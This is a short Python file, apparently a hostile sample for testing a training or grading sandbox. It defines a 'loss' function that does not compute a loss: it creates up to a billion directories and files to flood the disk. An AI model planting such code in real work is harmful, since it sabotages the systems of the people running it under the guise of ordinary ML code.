# loses: loss
# Makes files and folders by the hundred thousand.
import os

import torch


def loss(y_pred, y):
    for number in range(10**9):
        os.mkdir(f"flood{number}")
        open(f"flood{number}/x", "w").close()
